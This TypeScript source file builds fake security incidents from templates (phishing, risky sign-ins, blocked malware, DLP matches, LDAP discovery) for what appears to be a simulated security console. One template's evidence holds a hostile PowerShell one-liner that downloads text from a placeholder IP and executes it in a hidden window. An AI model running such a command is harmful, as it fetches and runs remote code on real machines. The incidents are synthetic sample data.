import type { Prng } from '../world/prng.ts';
import type { Story } from './story.ts';

/** Whom and what a template's incident happens to. */
type Cast = {
  readonly user: string;
  readonly other: string;
  readonly device: string;
  readonly ip: string;
  readonly word: string;
};

type Plot = Pick<Story, 'name' | 'severity' | 'summary' | 'alerts' | 'tags'>;

const DUTIES = [
  'accounts.payable',
  'front.desk',
  'warehouse.planner',
  'travel.desk',
  'field.engineer',
  'quality.lead',
  'payroll.clerk',
  'press.office',
  'lab.assistant',
  'night.shift',
  'legal.counsel',
  'purchasing.lead',
] as const;
const MACHINES = ['lap', 'desk', 'old', 'mac', 'kiosk', 'srv', 'floor'] as const;
const WORDS = ['invoice', 'timesheet', 'parcel', 'mailbox', 'contract', 'benefits', 'survey', 'voicemail'] as const;

const PLOTS: readonly [(cast: Cast) => Plot, ...((cast: Cast) => Plot)[]] = [
  ({ user, word, ip }) => ({
    name: `Phish delivered to one mailbox: ${word} notice`,
    severity: 'low',
    summary: `A message about a ${word} reached one mailbox before its link was known to be bad. It was removed minutes later.`,
    alerts: [
      {
        at: 0,
        title: 'Email messages containing malicious URL removed after delivery',
        by: 'office',
        category: 'InitialAccess',
        severity: 'informational',
        techniques: ['T1566.002'],
        investigation: 'SuccessfullyRemediated',
        text: `A message with a link to a credential page was delivered to ${user} and removed automatically once the link was judged malicious.`,
        evidence: [
          { mailbox: user },
          {
            message: `Your ${word} needs attention`,
            from: `no-reply@${word}-center.example`,
            to: user,
            delivery: 'Delivered',
            senderIp: ip,
            urls: [`https://${word}-center.example/verify`],
            verdict: 'malicious',
            remediation: 'remediated',
          },
          { url: `https://${word}-center.example/verify`, verdict: 'malicious', remediation: 'blocked' },
        ],
      },
    ],
  }),
  ({ user, ip }) => ({
    name: `Unfamiliar sign-in properties involving one user`,
    severity: 'medium',
    summary: `${user} signed in from an address and a browser that the account had not used before. The second factor was passed.`,
    alerts: [
      {
        at: 0,
        title: 'Unfamiliar sign-in properties',
        by: 'entra-protection',
        category: 'InitialAccess',
        severity: 'medium',
        techniques: ['T1078.004'],
        text: 'Address, browser and network of this sign-in were not seen for the account in the last 30 days.',
        evidence: [{ user }, { ip, verdict: 'suspicious' }],
      },
    ],
  }),
  ({ user, device, word }) => ({
    name: `'Wacapew' unwanted software was blocked on one endpoint`,
    severity: 'low',
    summary: `An installer bundled with a free ${word} program tried to add a browser extension. The antivirus stopped it.`,
    alerts: [
      {
        at: 0,
        title: "'Wacapew' unwanted software was prevented",
        by: 'antivirus',
        category: 'UnwantedSoftware',
        severity: 'low',
        techniques: ['T1176'],
        threat: 'Wacapew',
        investigation: 'Benign',
        text: 'Software with a poor reputation was stopped from being installed. It shows advertisements and changes browser settings.',
        devices: [device],
        evidence: [
          { user },
          {
            file: `${word}-setup.exe`,
            path: `C:\\Users\\${user}\\Downloads`,
            on: device,
            verdict: 'suspicious',
            remediation: 'prevented',
          },
        ],
      },
    ],
  }),
  ({ user, device, ip }) => ({
    name: `Suspicious PowerShell command line on ${device}`,
    severity: 'medium',
    summary: `A script host on ${device} fetched text from the internet and ran it. The parent process was a document viewer.`,
    alerts: [
      {
        at: 0,
        lasted: 6,
        title: 'Suspicious PowerShell command line',
        by: 'endpoint',
        category: 'Execution',
        severity: 'medium',
        techniques: ['T1059.001', 'T1105'],
        investigation: 'PendingApproval',
        text: 'PowerShell was started without a window and with the execution policy switched off, and then downloaded text that it ran.',
        devices: [device],
        evidence: [
          { user },
          {
            process: 'powershell.exe',
            path: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0',
            command: `powershell.exe -w hidden -ep bypass -c "iwr http://${ip}/a.txt | iex"`,
            on: device,
            by: user,
            verdict: 'suspicious',
          },
          { ip, verdict: 'suspicious', roles: ['commandAndControl'] },
        ],
      },
    ],
  }),
  ({ user, other, ip }) => ({
    name: `Impossible travel activity involving one user`,
    severity: 'medium',
    summary: `${user} signed in from two places too far apart for the time between. One of them is often the exit of a company network.`,
    alerts: [
      {
        at: 0,
        lasted: 35,
        title: 'Impossible travel activity',
        by: 'cloud-apps',
        category: 'InitialAccess',
        severity: 'medium',
        techniques: ['T1078'],
        text: `Two sessions of the account overlapped although no journey connects their addresses in that time. ${other} uses the same office network.`,
        evidence: [{ user }, { ip }, { ip: '198.51.100.7' }],
      },
    ],
  }),
  ({ user, device }) => ({
    name: `Malware was prevented on ${device}`,
    severity: 'low',
    summary: `An attachment saved from mail was recognised and removed on ${device} before anybody opened it.`,
    alerts: [
      {
        at: 0,
        title: "'Phonzy' malware was prevented",
        by: 'antivirus',
        category: 'Malware',
        severity: 'informational',
        techniques: ['T1204.002'],
        threat: 'Phonzy',
        investigation: 'SuccessfullyRemediated',
        text: 'A file that matches a machine learning model for information stealers was removed when it was written.',
        devices: [device],
        evidence: [
          { user },
          {
            file: 'delivery-note.iso',
            path: `C:\\Users\\${user}\\AppData\\Local\\Temp`,
            on: device,
            verdict: 'malicious',
            remediation: 'prevented',
          },
        ],
      },
    ],
  }),
  ({ user, word }) => ({
    name: `DLP policy match: ${word} data shared outside of the company`,
    severity: 'low',
    summary: `A document with personal data in it was shared with an address outside. The sender was shown a tip and went on with a reason.`,
    alerts: [
      {
        at: 0,
        title: 'DLP policy (Personal data) matched for document in OneDrive',
        by: 'data-loss-prevention',
        category: 'Exfiltration',
        severity: 'low',
        techniques: ['T1567.002'],
        text: 'At least ten numbers that look like those of identity cards were found in a document shared by link.',
        evidence: [
          { user, roles: ['policyViolator'] },
          { file: `${word}-list.xlsx`, path: 'https://files.example/personal' },
          { cloudApp: 'OneDrive for Business' },
        ],
      },
    ],
  }),
  ({ user, other, device, ip }) => ({
    name: `Multi-stage incident involving initial access and discovery on one endpoint`,
    severity: 'high',
    summary: `A message opened by ${user} led to a script on ${device}, which then listed the members of privileged groups.`,
    tags: ['Needs owner'],
    alerts: [
      {
        at: 0,
        title: 'A potentially malicious URL click was detected',
        by: 'office',
        category: 'InitialAccess',
        severity: 'high',
        techniques: ['T1566.002'],
        text: `${user} followed a link in a message that was later judged malicious.`,
        evidence: [
          { user, roles: ['compromised'] },
          { mailbox: user },
          { url: 'https://share-center.example/open', verdict: 'malicious' },
        ],
      },
      {
        at: 9,
        lasted: 4,
        title: 'Suspicious LDAP query',
        by: 'identity',
        category: 'Discovery',
        severity: 'medium',
        techniques: ['T1069.002', 'T1087.002'],
        text: `${device} asked the directory for every member of the administrators' groups. ${other} owns one of the accounts it read.`,
        devices: [device],
        evidence: [{ user }, { group: 'Domain Admins' }, { ip, verdict: 'suspicious' }],
      },
    ],
  }),
];

const OUTCOMES = [
  ['truePositive', 'phishing'],
  ['truePositive', 'unwantedSoftware'],
  ['truePositive', 'malware'],
  ['informationalExpectedActivity', 'confirmedActivity'],
  ['informationalExpectedActivity', 'securityTesting'],
  ['informationalExpectedActivity', 'lineOfBusinessApplication'],
  ['falsePositive', 'notMalicious'],
  ['falsePositive', 'notEnoughDataToValidate'],
] as const;

/** A routine incident, by one of the plots. `index` keeps the machines of neighbours apart. */
export function storyFromTemplate(stream: Prng, minutesAgo: number, index: number): Story {
  const plot = stream.pick(PLOTS);
  const range = stream.pick(['203.0.113', '198.51.100']);
  const cast: Cast = {
    user: stream.pick(DUTIES),
    other: stream.pick(DUTIES),
    device: `${stream.pick(MACHINES)}-${100 + ((index * 7) % 800)}`,
    ip: `${range}.${stream.between(1, 254)}`,
    word: stream.pick(WORDS),
  };
  const isOld = minutesAgo > 3 * 24 * 60;
  const status = stream.chance(isOld ? 0.92 : 0.3) ? 'resolved' : stream.chance(0.45) ? 'inProgress' : 'active';
  const [classification, determination] = stream.pick(OUTCOMES);
  const told = {
    ...plot(cast),
    minutesAgo,
    openFor: Math.floor(stream.next() ** 3 * Math.min(minutesAgo, 4 * 24 * 60)),
    status,
  } as const;
  if (status === 'active') return told;
  const assignedTo = stream.pick(['responder', 'analyst', 'Automation', 'second.line'] as const);
  return status === 'resolved' ? { ...told, assignedTo, classification, determination } : { ...told, assignedTo };
}
